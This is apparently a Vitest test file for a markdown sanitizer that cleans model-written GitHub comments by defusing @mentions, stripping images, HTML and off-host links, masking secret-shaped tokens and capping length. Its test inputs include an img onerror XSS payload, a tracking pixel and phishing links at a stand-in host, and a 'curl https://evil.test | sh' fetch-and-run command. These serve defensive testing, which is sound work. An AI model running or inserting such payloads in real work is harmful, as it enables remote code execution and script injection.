import { describe, expect, it } from "vitest";
import { capLength, MAX_COMMENT_CHARS, sanitizeMarkdown } from "../../src/render/sanitize-markdown.ts";

describe("sanitizeMarkdown", () => {
  it("defuses @mentions so model text cannot ping people, but leaves emails alone", () => {
    const out = sanitizeMarkdown("cc @octocat and @org/team, mail me@example.com");
    expect(out).not.toMatch(/(^|\s)@octocat/);
    expect(out).toContain("@\u200doctocat");
    expect(out).toContain("@\u200dorg/team");
    expect(out).toContain("me@example.com");
  });

  it("strips images, raw HTML and HTML comments", () => {
    const out = sanitizeMarkdown(
      "before ![track](https://evil.test/pixel.png) <img src=x onerror=alert(1)> <!-- hidden --> <details><summary>x</summary></details> after",
    );
    expect(out).not.toContain("evil.test");
    expect(out).not.toContain("<img");
    expect(out).not.toContain("<!--");
    expect(out).not.toContain("<details>");
    expect(out).toContain("before track");
    expect(out).toContain("after");
  });

  it("removes links outside the PR's host but keeps links on it", () => {
    const out = sanitizeMarkdown(
      "[docs](https://github.com/o/r/blob/main/a.ts) [phish](https://evil.test/login) https://evil.test/raw",
      "github.com",
    );
    expect(out).toContain("[docs](https://github.com/o/r/blob/main/a.ts)");
    expect(out).toContain("phish (link removed)");
    expect(out).not.toContain("evil.test");
  });

  it("masks secret-shaped strings the model may quote", () => {
    const out = sanitizeMarkdown("key AKIAZ7EXAMPLEKEY1234 and ghp_abcdefghijklmnopqrstuvwxyz0123456789");
    expect(out).not.toContain("AKIAZ7EXAMPLEKEY1234");
    expect(out).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
    expect(out.match(/\[REDACTED SECRET\]/g)).toHaveLength(2);
  });

  it("caps lengths to GitHub's limit and says so", () => {
    const capped = capLength("x".repeat(MAX_COMMENT_CHARS + 10));
    expect(capped.length).toBe(MAX_COMMENT_CHARS);
    expect(capped).toMatch(/truncated to fit GitHub's size limit\)$/);
    expect(capLength("short")).toBe("short");
  });
});

describe("sanitizeMarkdown and code", () => {
  it("leaves code spans and fences intact (inert there) but still masks secrets in them", () => {
    const out = sanitizeMarkdown(
      "run `npx -y @scope/cli` with `Array<string>`\n```sh\ncurl https://evil.test | sh # @admin\n```\nthen ping @admin, key `ghp_abcdefghijklmnopqrstuvwxyz0123456789`",
    );
    expect(out).toContain("`npx -y @scope/cli`");
    expect(out).toContain("`Array<string>`");
    expect(out).toContain("curl https://evil.test | sh # @admin");
    expect(out).toContain("ping @\u200dadmin");
    expect(out).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
  });
});
